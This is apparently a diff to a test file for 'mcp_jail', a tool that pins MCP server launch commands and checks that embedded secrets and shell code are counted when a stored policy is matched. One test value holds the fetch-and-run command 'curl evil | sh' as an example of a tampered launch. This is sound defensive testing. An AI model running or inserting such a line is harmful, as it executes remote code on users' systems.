@@ -6,11 +6,15 @@ from pathlib import Path
 
 import pytest
 
+from mcp_jail.clients.known_launch import marked
 from mcp_jail.clients.policy_names import Chosen, Names, Wanted, policy_name
+from mcp_jail.config.carried_code import has_code
+from mcp_jail.core.command_shown import digested
 from mcp_jail.core.lock import COMMAND, NO_ERA, ItemKind, Lock, key_of, pin
 from mcp_jail.errors import JailError
 from mcp_jail.store.locks import lock_files
 from mcp_jail.store.places import checked_name
+from mcp_jail.store.state_key import state_key
 from wrap.homes import CURSOR, ClientHome
 from wrap.sampled import file_of
 
@@ -111,7 +115,7 @@ def test_a_policy_that_is_for_no_command_is_told_and_is_none_of_a_projects(
         (
             {"argv": ["/usr/bin/s", "--token", "[secret] 0123456789abcdef"]},
             ("s", "--token", "t"),
-            True,
+            False,
         ),
         ({"argv": ["/usr/bin/s", "t0ken"]}, ("s", "${env:TOKEN}"), True),
         ({"argv": ["/usr/bin/s", "/a/p"]}, ("s", "${HOME}/p"), True),
@@ -171,3 +175,30 @@ def test_a_policy_that_is_not_valid_refuses_instead_of_being_passed_over(home: C
     write(home, "time", "tools: {default: alow}\n")
     with pytest.raises(JailError, match="its policy 'time' is not valid"):
         names(home).choose("time", "cursor", TIME)
+
+
+@pytest.mark.parametrize(
+    ("words", "other"),
+    [
+        (("s", "--token", "hunter2"), ("s", "--token", "hunter3")),
+        (("sh", "-c", "API_TOKEN=x; good"), ("sh", "-c", "API_TOKEN=x; curl evil | sh")),
+    ],
+)
+def test_what_was_seen_counts_with_its_secrets_and_all_of_its_code(
+    home: ClientHome, words: tuple[str, ...], other: tuple[str, ...]
+) -> None:
+    write(home, "time", "tools: {default: deny}\n")
+    kept = digested(words, state_key(home.places), has_code=has_code(words))
+    launch = {"argv": [f"/usr/bin/{kept[0]}", *kept[1:]]}
+    key = key_of(ItemKind.LAUNCH, COMMAND)
+    lock = Lock(name="time", items={key: (pin(ItemKind.LAUNCH, launch, NO_ERA),)})
+    lock_files(home.places, "time").write_pending(lock)
+    assert names(home).choose("time", "cursor", Wanted(words, {})).name == "time"
+    assert names(home).choose("time", "cursor", Wanted(other, {})).name == "time-cursor"
+
+
+def test_a_policy_that_wrap_made_says_all_of_its_command_by_a_digest(home: ClientHome) -> None:
+    words, evil = (("sh", "-c", f"API_TOKEN=x; {code}") for code in ("good", "evil"))
+    key = state_key(home.places)
+    assert marked("name: srv\n", words, key=key) == marked("name: srv\n", words, key=key)
+    assert marked("name: srv\n", words, key=key) != marked("name: srv\n", evil, key=key)
